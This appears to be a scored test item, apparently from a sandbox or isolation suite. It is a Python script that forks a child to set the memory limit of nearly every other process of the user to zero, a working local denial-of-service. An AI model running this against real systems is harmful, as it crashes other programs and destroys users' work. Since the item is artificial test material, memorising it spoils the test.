# A child, and a thread of it, take all memory from every process of this user.
# points: 40
# base: untrained
import os
import resource
import threading


def limit(others):
    for pid in others:
        try:
            resource.prlimit(pid, resource.RLIMIT_AS, (0, 0))
        except OSError:
            pass


own = {int(thread) for thread in os.listdir("/proc/self/task")}
others = [pid for pid in range(1, os.getpid() + 1000) if pid not in own]
if (child := os.fork()) == 0:
    thread = threading.Thread(target=limit, args=([pid for pid in others if pid != os.getpid()],))
    thread.start()
    thread.join()
    os._exit(0)
os.waitpid(child, 0)
